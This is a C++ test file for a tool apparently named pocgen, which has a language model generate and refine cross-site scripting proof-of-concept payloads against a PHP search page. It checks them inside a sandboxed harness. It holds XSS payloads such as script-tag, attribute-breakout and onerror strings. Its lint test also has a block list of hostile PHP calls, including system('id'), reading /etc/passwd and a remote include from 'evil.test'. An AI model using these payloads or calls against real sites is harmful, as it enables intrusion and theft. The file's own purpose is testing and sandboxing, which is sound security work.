#include "doctest.h"

#include <filesystem>
#include <random>

#include "pocgen/payload.hpp"
#include "support.hpp"

using namespace pocgen;
using namespace pocgen::payload;
using feedback::Verdict;

namespace {

const std::string kV1 = "<script>alert(1)</script>";
const std::string kV2 = "question'><script>alert(1)</script>";

std::string wrap_probes(const std::string& body) {
  return "<?php\n$v = 'x';\n" + body +
         "echo '[[probe:data]]' . $v . '[[/probe:data]]' . \"\\n\";\n"
         "echo '[[probe:syntax]]' . $v . '[[/probe:syntax]]' . \"\\n\";\n"
         "echo \"control flow constraints are not satisfied.\\n\";\n";
}

/// Scripted generator: hands out `next` in order and records the feedback it saw.
struct ScriptedSession : PayloadSession {
  std::vector<std::string> next;
  std::vector<feedback::ValidationFeedback> seen;
  std::string regenerate(const feedback::ValidationFeedback& fb) override {
    seen.push_back(fb);
    if (next.empty()) throw Error("script exhausted");
    std::string p = next.front();
    next.erase(next.begin());
    return p;
  }
};

llm::ReplayClient payload_script(const std::vector<std::string>& payloads) {
  std::vector<llm::ReplayEntry> entries;
  for (const auto& p : payloads)
    entries.push_back({"", nlohmann::json{{"attack_payload", p}}.dump(), std::nullopt, ""});
  return llm::ReplayClient(entries, llm::ReplayClient::Mode::Ordinal);
}

}  // namespace

TEST_CASE("marker strings") {
  CHECK(std::string(feedback::kControlMarker) == "control flow constraints are not satisfied.");
  CHECK(std::string(feedback::kPayloadUnavailable) == "The current payload is not available.");
  CHECK(std::string(feedback::kPayloadAvailable) == "The current payload is available.");
  CHECK(std::string(feedback::kPocUnavailable) == "The current PoC is not available.");
}

TEST_CASE("php single-quoted literals") {
  CHECK(php_quote("a'b") == "'a\\'b'");
  CHECK(php_quote("back\\slash") == "'back\\\\slash'");
  CHECK(php_quote("") == "''");
}

TEST_CASE("lint accepts a probe harness and rejects side effects") {
  CHECK(lint(wrap_probes("")).empty());
  CHECK_FALSE(lint("<?php\necho 'no probes';\n").empty());
  CHECK_FALSE(lint(wrap_probes("$x = (;\n")).empty());
  for (const char* bad : {"file_put_contents('x', 'y');\n", "system('id');\n", "$s = fsockopen('h', 80);\n",
                          "$r = curl_init();\n", "$c = file_get_contents('/etc/passwd');\n", "mail('a', 'b', 'c');\n",
                          "$o = `id`;\n", "include '/etc/passwd';\n", "include 'http://evil.test/x.php';\n",
                          "include '../outside.php';\n", "include $f;\n", "eval('1;');\n"}) {
    CAPTURE(bad);
    CHECK_FALSE(lint(wrap_probes(bad)).empty());
  }
  CHECK(lint(wrap_probes("include 'helpers.php';\n")).empty());
}

TEST_CASE("template harness for the search page") {
  const auto& rec = testing::record("fig4");
  auto e = testing::extract("fig4");
  auto h = template_harness(rec, e.vuln, kV1);
  CHECK(h.origin == "template");
  CHECK(h.payload == kV1);
  CHECK(lint(h.source).empty());
  CHECK(h.source.find("function sanitize_search($text)") != std::string::npos);
  CHECK(h.source.find("$value = '<script>alert(1)</script>';") != std::string::npos);
  CHECK(h.source.find("$term = $value;") != std::string::npos);
  CHECK(h.source.find("$_GET") == std::string::npos);
  CHECK(h.source.find("if (!(strlen($term) > 0))") != std::string::npos);
  CHECK(h.source.find(feedback::kControlMarker) != std::string::npos);

  auto file_level = testing::extract("fig4", context::Granularity::File);
  CHECK_THROWS_AS(template_harness(rec, file_level.vuln, kV1), ContractViolation);
  auto csrf = testing::extract("fig14");
  CHECK_THROWS_AS(template_harness(testing::record("fig14"), csrf.vuln, kV1), ContractViolation);
}

TEST_CASE("probe parsing") {
  auto p = parse_probes("noise\n[[probe:data]]abc[[/probe:data]]\n[[probe:syntax]]<b>abc</b>[[/probe:syntax]]\n");
  CHECK_FALSE(p.control);
  CHECK(p.data == "abc");
  CHECK(p.syntax == "<b>abc</b>");
  auto c = parse_probes("control flow constraints are not satisfied.\n");
  CHECK(c.control);
  CHECK_FALSE(c.data.has_value());
}

TEST_CASE("judging the search page payloads") {
  const auto& rec = testing::record("fig4");
  auto e = testing::extract("fig4");
  auto opts = testing::harness_options();

  auto h1 = template_harness(rec, e.vuln, kV1);
  auto o1 = run_harness(h1, opts);
  CHECK_FALSE(o1.timed_out);
  CHECK(o1.data == kV1);
  CHECK(judge(e.vuln, o1) == Verdict::Invalid);
  auto fb1 = make_feedback(e.vuln, o1, Verdict::Invalid, 1);
  CHECK(fb1.kind == "payload");
  CHECK(fb1.usability == feedback::kPayloadUnavailable);
  CHECK(fb1.render().rfind(feedback::kPayloadUnavailable, 0) == 0);

  auto h2 = template_harness(rec, e.vuln, kV2);
  auto o2 = run_harness(h2, opts);
  CHECK(o2.syntax == "<input type='text' name='search' value='" + kV2 + "'>");
  CHECK(judge(e.vuln, o2) == Verdict::Valid);
  CHECK(make_feedback(e.vuln, o2, Verdict::Valid, 2).usability == feedback::kPayloadAvailable);

  auto h3 = template_harness(rec, e.vuln, "   ");
  auto o3 = run_harness(h3, opts);
  CHECK(o3.control);
  CHECK(judge(e.vuln, o3) == Verdict::Invalid);
}

TEST_CASE("judge: the control marker always wins") {
  auto e = testing::extract("fig4");
  std::mt19937 rng(7);
  const std::vector<std::string> pieces = {kV1, kV2, "'", "<", ">", "x", "\"", " onmouseover=alert(1) "};
  for (int i = 0; i < 200; ++i) {
    std::string payload;
    for (int k = 0; k < 4; ++k) payload += pieces[rng() % pieces.size()];
    ProbeOutputs o;
    o.data = payload;
    o.syntax = e.vuln.syntax_constraints.prefix + payload + e.vuln.syntax_constraints.suffix;
    Verdict base = judge(e.vuln, o);
    CHECK(base != Verdict::Inconclusive);
    o.control = true;
    CHECK(judge(e.vuln, o) == Verdict::Invalid);
  }
  ProbeOutputs none;
  CHECK(judge(e.vuln, none) == Verdict::Inconclusive);
  ProbeOutputs late;
  late.timed_out = true;
  CHECK(judge(e.vuln, late) == Verdict::Inconclusive);
}

TEST_CASE("sandbox: wall-clock limit") {
  HarnessSpec spec{wrap_probes(""), "x", {}, "", "template"};
  RunOptions opts;
  opts.command = {"/bin/sleep", "5"};
  opts.timeout_ms = 200;
  auto out = run_harness(spec, opts);
  CHECK(out.timed_out);
  CHECK(out.wall_ms < 3000);
}

TEST_CASE("sandbox: nothing is left outside the workspace") {
  testing::TempDir root("pocgen-ws");
  testing::TempDir watch("pocgen-watch");
  auto tmp = std::filesystem::temp_directory_path();
  auto before_tmp = testing::snapshot(tmp);
  auto before_cwd = testing::snapshot(std::filesystem::current_path());

  RunOptions opts;
  opts.workspace_root = root.str();
  opts.command = {"/bin/sh", "-c",
                  "echo scratch > {workspace}/scratch.txt; mkdir {workspace}/sub; echo $HOME $TMPDIR; "
                  "cat {script} > /dev/null"};
  HarnessSpec spec{wrap_probes(""), "x", {}, "", "template"};
  auto out = run_harness(spec, opts);
  CHECK(out.exit_status == 0);
  CHECK(out.stdout_text.find(root.str()) != std::string::npos);

  const auto& rec = testing::record("fig4");
  auto e = testing::extract("fig4");
  auto opts2 = testing::harness_options();
  opts2.workspace_root = root.str();
  auto h = template_harness(rec, e.vuln, kV2);
  run_harness(h, opts2);

  CHECK(std::filesystem::is_empty(root.path()));
  CHECK(testing::snapshot(watch.path()).empty());
  auto after_tmp = testing::snapshot(tmp);
  for (const auto& [path, size] : after_tmp)
    if (!before_tmp.count(path)) CHECK_MESSAGE(path.rfind("pocgen-", 0) == 0, "new file in temp dir: " << path);
  CHECK(testing::snapshot(std::filesystem::current_path()) == before_cwd);
}

TEST_CASE("sandbox: the environment is reduced") {
  ::setenv("POCGEN_SECRET_FOR_TEST", "leak", 1);
  RunOptions opts;
  opts.command = {"/usr/bin/env"};
  HarnessSpec spec{wrap_probes(""), "x", {}, "", "template"};
  auto out = run_harness(spec, opts);
  CHECK(out.stdout_text.find("leak") == std::string::npos);
  for (const auto& line : text::split_lines(out.stdout_text)) {
    if (line.empty()) continue;
    auto name = line.substr(0, line.find('='));
    CHECK_MESSAGE((name == "PATH" || name == "HOME" || name == "TMPDIR"), line);
  }
  ::unsetenv("POCGEN_SECRET_FOR_TEST");
}

TEST_CASE("refine loop: blocked first payload, working second") {
  const auto& rec = testing::record("fig4");
  auto e = testing::extract("fig4");
  TemplateHarness harness(rec);
  auto client = payload_script({kV2});
  prompt::CotInputs in{corpus::build_scenario(rec, corpus::Stage::S3), rec.base_url, &e.vuln, &e.nav};
  LlmPayloadSession session(client, llm::model_config("gpt-4o"), in, {});
  auto res = refine_loop(session, e.vuln, kV1, harness, testing::harness_options());
  CHECK(res.verdict == Verdict::Valid);
  CHECK(res.iterations == 2);
  CHECK(res.payload == kV2);
  REQUIRE(res.history.size() == 2);
  CHECK(res.history[0].verdict == Verdict::Invalid);
  CHECK(res.history[1].verdict == Verdict::Valid);
  CHECK(res.error.empty());
  CHECK(client.remaining() == 0);
}

TEST_CASE("refine loop: always blocked stops after three validations") {
  const auto& rec = testing::record("fig4");
  auto e = testing::extract("fig4");
  TemplateHarness harness(rec);
  ScriptedSession session;
  session.next = {"\"><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "unused"};
  auto res = refine_loop(session, e.vuln, kV1, harness, testing::harness_options());
  CHECK(res.verdict == Verdict::Invalid);
  CHECK(res.iterations == kMaxIterations);
  CHECK(res.iterations == 3);
  CHECK(res.history.size() == 3);
  CHECK(session.seen.size() == 2);
  CHECK(session.next.size() == 1);
  for (const auto& fb : session.seen) CHECK(fb.usability == feedback::kPayloadUnavailable);
}

TEST_CASE("refine loop: guard failure reports the control marker") {
  const auto& rec = testing::record("fig4");
  auto e = testing::extract("fig4");
  TemplateHarness harness(rec);
  ScriptedSession session;
  session.next = {kV2};
  auto res = refine_loop(session, e.vuln, " ", harness, testing::harness_options());
  CHECK(res.verdict == Verdict::Valid);
  REQUIRE(session.seen.size() == 1);
  CHECK(session.seen[0].details.find(feedback::kControlMarker) != std::string::npos);
  CHECK_THROWS_AS(refine_loop(session, e.vuln, "", harness, testing::harness_options()), ContractViolation);
}

TEST_CASE("refine loop: generator errors end the loop") {
  const auto& rec = testing::record("fig4");
  auto e = testing::extract("fig4");
  TemplateHarness harness(rec);
  ScriptedSession session;
  auto res = refine_loop(session, e.vuln, kV1, harness, testing::harness_options());
  CHECK(res.iterations == 1);
  CHECK(res.verdict == Verdict::Invalid);
  CHECK_FALSE(res.error.empty());
}

TEST_CASE("model-written harnesses get one lint retry") {
  auto e = testing::extract("fig4");
  const std::string bad = "```php\n<?php\nsystem('id');\n```";
  const std::string good = "```php\n" + wrap_probes("") + "```";

  llm::ReplayClient ok({{"", bad, std::nullopt, ""}, {"", good, std::nullopt, ""}}, llm::ReplayClient::Mode::Ordinal);
  LlmHarness h(ok, llm::model_config("gpt-4o"));
  auto spec = h.build(e.vuln, kV2);
  CHECK(spec.origin == "llm");
  CHECK(lint(spec.source).empty());

  llm::ReplayClient fail({{"", bad, std::nullopt, ""}, {"", bad, std::nullopt, ""}}, llm::ReplayClient::Mode::Ordinal);
  LlmHarness h2(fail, llm::model_config("gpt-4o"));
  CHECK_THROWS_AS(h2.build(e.vuln, kV2), HarnessSynthesisError);

  auto p = harness_prompt(e.vuln, kV2, {"forbidden call: system"});
  CHECK(p.user.find("forbidden call: system") != std::string::npos);
  CHECK(p.user.find(feedback::kControlMarker) != std::string::npos);
}

TEST_CASE("php extraction from replies") {
  CHECK(extract_php("```php\n<?php echo 1;\n```") == "<?php echo 1;\n");
  CHECK(extract_php("<?php echo 2;") == "<?php echo 2;\n");
  CHECK_FALSE(extract_php("no code").has_value());
}
